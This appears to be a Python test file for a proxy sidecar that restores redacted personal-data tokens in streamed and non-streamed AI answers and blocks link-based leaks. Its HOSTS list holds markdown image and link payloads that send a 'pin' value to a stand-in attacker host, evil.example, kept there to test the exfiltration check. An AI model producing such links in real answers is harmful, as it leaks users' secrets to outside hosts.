"""Tokens of a request are put back in its answer whatever the split, and as they were written: streamed or not, in texts
and in arguments of tools, after all checks. BARTIZAN_STREAM_CASES sets the number of cases; tests/fuzz/fuzz_streaming.py
plays more.
"""

from __future__ import annotations

import json
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bartizan.policy.checks import Exfiltration, Markup
from sidecar.checks.base import CheckSet
from sidecar.checks.catalog import build_checks
from sidecar.checks.content import inspect_document
from sidecar.checks.scope import Scope
from sidecar.checks.stream import StreamInspector
from sidecar.checks.tokens import Tokens
from tests.support.wire import ARGUMENTS
from tests.support.wires import WIRES
from tests.unit.sidecar.formats.test_streaming_guarantee import (
    ALL,
    CASES,
    FORMATS,
    PLANTED,
    PROSE,
    Case,
    _in_strings,
    _plain,
    _redacted,
    _streamed,
    answers,
)

SAID = {
    "<EMAIL_1>": "jane@example.org",
    "<CARD_1>": "4111 1111 1111 1111",
    "<COORDINATES_1>": "52°31'12\"N 13°24'18\"E",
    "<NATIONAL_ID_1>": "back\\slash and\nline \u732b",
    "<EMAIL_12>": "<EMAIL_1>",
    "<EMAIL_13>": "joe@evil.example",
}
CHANGED = ("<EMAIL_2>", "<email_1>", "<EMAIL_1", "EMAIL_1>", "<EMAIL_ 1>", "<EMAIL_01>", "<", "<E", "<EMAIL_")
TEXTS = st.lists(
    st.one_of(PROSE, st.sampled_from([*SAID, *CHANGED]), st.sampled_from(PLANTED[:2])), max_size=7
).map("".join)


def scope() -> Scope:
    tokens = Tokens()
    tokens._said.update(SAID)
    return Scope(tokens=tokens)


def restored(text: str) -> str:
    out, at = "", 0
    while at < len(text):
        token = next((one for one in SAID if text.startswith(one, at)), None)
        out += SAID[token] if token else text[at]
        at += len(token) if token else 1
    return out


def of(checks: CheckSet) -> CheckSet:
    return replace(checks, restores=True).bound(scope())


@settings(max_examples=CASES, deadline=None, suppress_health_check=list(HealthCheck))
@given(case=answers(TEXTS), checked=st.booleans())
def test_a_stream_is_restored_as_the_whole_answer_is(case: Case, checked: bool) -> None:
    restored_alike(case, checked=checked)


def restored_alike(case: Case, *, checked: bool) -> None:
    checks = of(ALL["redact"] if checked else CheckSet())

    def wanted(text: str) -> str:
        return _redacted(restored(_redacted(text, checks.texts)), checks.rendered)

    expected: dict[str, Any] = {
        name: _in_strings(text, wanted) if name.startswith(ARGUMENTS) else wanted(text)
        for name, text in case.texts.items()
    }
    expected = {name: text for name, text in expected.items() if text}
    out, cut = _streamed(case, checks)
    assert not cut
    got = _plain(case.wire.client(out))
    assert {name: text for name, text in got.items() if " " not in name} == expected
    for name, text in got.items():
        assert text == expected[name.rpartition(" ")[2]], "said again after its deltas"
    body = json.dumps(case.wire.whole(case.texts)).encode()
    document = FORMATS[case.wire.name].decode_answer(case.wire.path, "application/json", body)
    inspect_document(document, checks, shadow=False)
    if not checked:  # with checks a whole JSON text is looked at twice, by its strings and then as a text
        assert _plain(case.wire.read(json.loads(document.encode()))) == expected


@pytest.mark.parametrize("name", ["chat", "messages", "ollama"])
def test_only_what_may_become_a_token_is_held_back(name: str) -> None:
    wire = next(wire for wire in WIRES if wire.name == name)
    stream = FORMATS[name].answer_stream(wire.path, wire.kind)
    assert stream is not None
    inspector = StreamInspector(stream, of(CheckSet()), shadow=False)
    kind = wire.streams[0] if name != "messages" else "text:1"
    for event in wire.begin():
        inspector.feed(wire.event(event, json.dumps), end=False)
    for said, flows in (("a < b", "a < b"), (" <EMA", " "), ("IL_1", ""), (">!", "jane@example.org!")):
        out = inspector.feed(wire.event(wire.piece(kind, said), json.dumps), end=False)
        assert wire.client(out.data).get(kind, "") == flows


HOSTS = (
    "![a](//<EMAIL_13>/p?pin=1234)",
    "![a](https://docs.example<EMAIL_13>/p?pin=1234)",
    "see https://docs.example<EMAIL_13>/p?pin=1234 ok",
    "[x]: //<EMAIL_13>/?pin=1234\n![x]",
)


@pytest.mark.parametrize("said", HOSTS)
@pytest.mark.parametrize("kind", ["content:0", "arguments:0"])
@pytest.mark.parametrize("streamed", [False, True])
def test_what_is_put_back_chooses_no_host_of_a_link(said: str, kind: str, streamed: bool) -> None:
    checks = of(build_checks((Exfiltration(links=("docs.example",)), Markup())))
    wire = next(wire for wire in WIRES if wire.name == "chat")
    text = json.dumps({"a": said}) if kind.startswith(ARGUMENTS) else said
    if streamed:
        stream = FORMATS["chat"].answer_stream(wire.path, wire.kind)
        assert stream is not None
        inspector = StreamInspector(stream, checks, shadow=False)
        split = text.index("AIL_")
        events = [*wire.begin(), *(wire.piece(kind, half) for half in (text[:split], text[split:]))]
        out = b"".join(inspector.feed(wire.event(event, json.dumps), end=False).data for event in events)
        out += inspector.feed(b"", end=True).data
        findings = inspector.findings
    else:
        body = json.dumps(wire.whole({kind: text})).encode()
        document = FORMATS["chat"].decode_answer(wire.path, "application/json", body)
        findings = inspect_document(document, checks, shadow=False).findings
        out = document.encode()
    assert b"[LINK]" in out
    assert b"evil.example" not in out
    assert {finding.check for finding in findings} == {"restore", "exfiltration"}
